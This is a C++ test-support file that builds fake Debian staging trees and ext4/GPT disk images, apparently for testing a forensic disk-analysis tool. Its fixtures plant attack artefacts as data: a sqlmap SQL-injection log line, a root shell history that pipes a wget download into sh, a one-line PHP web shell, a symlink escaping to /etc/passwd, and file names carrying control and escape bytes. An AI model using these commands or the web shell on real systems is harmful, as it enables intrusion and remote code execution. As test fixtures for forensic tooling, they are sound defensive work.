#include "support/disk_images.h"

#include <zlib.h>

#include <cstdio>
#include <fstream>
#include <functional>
#include <sstream>

#include "support/temp_dir.h"

namespace fs = std::filesystem;

namespace shodo::testing {
namespace {

void write_file(const fs::path& p, const std::string& content) {
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary) << content;
}

std::string gzip(const std::string& data) {
  uLongf n = compressBound(data.size()) + 32;
  std::string out(n, '\0');
  z_stream z{};
  deflateInit2(&z, 6, Z_DEFLATED, 16 + MAX_WBITS, 8, Z_DEFAULT_STRATEGY);
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  z.avail_in = static_cast<uInt>(data.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

}  // namespace

fs::path make_linux_staging(const fs::path& dir) {
  const fs::path s = dir / "staging";
  write_file(s / "etc/os-release",
             "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\n");
  write_file(s / "etc/hostname", "web01\n");
  write_file(s / "etc/passwd",
             "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
  const std::string access =
      "203.0.113.9 - - [10/Mar/2024:03:00:01 +0000] \"GET /index.php?id=1%27%20UNION%20SELECT"
      "%20password%20FROM%20users-- HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.7\"\n"
      "198.51.100.7 - - [10/Mar/2024:03:00:02 +0000] \"GET / HTTP/1.1\" 200 100 \"-\" "
      "\"Mozilla/5.0\"\n";
  write_file(s / "var/log/nginx/access.log", access);
  write_file(s / "var/log/nginx/access.log.1.gz",
             gzip("198.51.100.7 - - [09/Mar/2024:03:00:02 +0000] \"GET /old HTTP/1.1\" 200 100 "
                  "\"-\" \"Mozilla/5.0\"\n"));
  write_file(s / "var/log/auth.log",
             "Mar 10 03:01:00 web01 sshd[100]: Failed password for root from 203.0.113.9 port "
             "4000 ssh2\n");
  write_file(s / "root/.bash_history", "wget http://203.0.113.9/x.sh -O- | sh\n");
  write_file(s / "home/alice/.bash_history", "ls -la\n");
  write_file(s / "var/www/html/index.php", "<?php echo 'hello';\n");
  write_file(s / "var/www/html/shell.php", "<?php system($_GET['c']);\n");
  std::string big;
  for (int i = 0; i < 20000; ++i) big += "line " + std::to_string(i) + "\n";
  write_file(s / "data/big.txt", big);
  write_file(s / "tmp/names/new\nline", "newline\n");
  write_file(s / "tmp/names/ctrl\x01\x1b[31m", "control\n");
  write_file(s / "tmp/names/bad\xff\xfe.txt", "invalid utf-8\n");
  write_file(s / "tmp/names/back\\slash", "backslash\n");
  write_file(s / "tmp/names/....", "dots\n");
  fs::create_symlink("../../../../etc/passwd", s / "tmp/names/escape");
  return s;
}

std::string make_ext4(const fs::path& dir, const fs::path& staging, const std::string& name,
                      const std::string& label, const std::vector<std::string>& remove,
                      int size_mb) {
  const std::string img = (dir / name).string();
  if (run_shell("mke2fs -q -F -t ext4 -L '" + label + "' -d '" + staging.string() + "' '" + img +
                "' " + std::to_string(size_mb) + "M >/dev/null 2>&1") != 0)
    return "";
  for (const std::string& path : remove)
    if (run_shell("debugfs -w -R 'rm " + path + "' '" + img + "' >/dev/null 2>&1") != 0) return "";
  return img;
}

std::string make_gpt(const fs::path& dir, const std::string& ext4_a, const std::string& ext4_b) {
  const std::string img = (dir / "gpt.img").string();
  // 1 MiB alignment; 16 MiB per partition (the ext4 images are 16 MiB).
  const std::string script =
      "label: gpt\\nstart=2048, size=32768, name=root\\nstart=34816, size=32768, name=data\\n"
      "start=67584, size=8192, name=xfs\\nstart=75776, size=8192, name=blank\\n";
  if (run_shell("truncate -s 42M '" + img + "' && printf '" + script + "' | sfdisk -q '" + img +
                "' >/dev/null 2>&1") != 0)
    return "";
  if (run_shell("dd if='" + ext4_a + "' of='" + img +
                "' bs=512 seek=2048 conv=notrunc status=none") != 0 ||
      run_shell("dd if='" + ext4_b + "' of='" + img +
                "' bs=512 seek=34816 conv=notrunc status=none") != 0 ||
      run_shell("printf 'XFSB' | dd of='" + img + "' bs=512 seek=67584 conv=notrunc status=none") !=
          0)
    return "";
  return img;
}

std::string file_digest(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream all;
  all << in.rdbuf();
  const std::string data = all.str();
  return std::to_string(data.size()) + ":" + std::to_string(std::hash<std::string>{}(data));
}

std::string shell_output(const std::string& command) {
  std::string out;
  FILE* p = popen(command.c_str(), "r");
  if (!p) return out;
  char buf[4096];
  while (size_t n = fread(buf, 1, sizeof buf, p)) out.append(buf, n);
  pclose(p);
  return out;
}

}  // namespace shodo::testing
